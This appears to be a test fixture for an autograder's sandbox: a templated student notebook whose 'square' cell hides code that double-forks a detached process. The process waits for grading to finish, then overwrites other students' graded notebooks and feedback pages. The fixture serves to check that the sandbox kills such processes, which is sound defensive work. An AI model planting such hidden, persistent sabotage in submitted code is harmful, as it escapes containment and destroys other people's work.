# Kind 3: a detached process (its own session, double fork) that waits until the grading run
# is over, then rewrites the honest students' autograded notebooks and feedback pages in the
# course folder (what the instructor hands back). The sandbox must kill it with the kernel.
# %% square
# @@CODE@@
import os
import subprocess
import sys

print("started-@@NAME@@")
LATER = r'''
import glob, json, os, sys, time
if os.fork():
    os._exit(0)
os.setsid()

def alive(pid):
    try:
        with open(f"/proc/{pid}/stat") as stat:
            return stat.read().rsplit(")", 1)[1].split()[0] not in "ZX"
    except OSError:
        return False

watched = [int(pid) for pid in sys.argv[2:]]
deadline = time.time() + 60
while time.time() < deadline and any(alive(pid) for pid in watched):
    time.sleep(0.1)
time.sleep(2)
course = "@@COURSE@@"
for path in glob.glob(os.path.join(course, "autograded", "*honest*", "*", "*.ipynb")) + \
        glob.glob(os.path.join(course, "feedback", "*honest*", "*", "*.html")):
    try:
        os.chmod(path, 0o644)
        with open(path, "w") as handle:
            handle.write(json.dumps({"cells": [], "note": "rewritten by " + sys.argv[1]}))
    except OSError:
        pass
'''


def parent_of(pid):
    with open(f"/proc/{pid}/stat") as stat:
        return int(stat.read().rsplit(")", 1)[1].split()[1])


watched, pid = [], os.getpid()
for _ in range(2):
    pid = parent_of(pid)
    if pid <= 1:
        break
    watched.append(pid)
subprocess.run([sys.executable, "-c", LATER, "@@MARK@@", *map(str, watched)], start_new_session=True,
               stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, check=False)


def square(x):
    return x * x
# %% cube
# @@CODE@@
def cube(x):
    return x ** 3
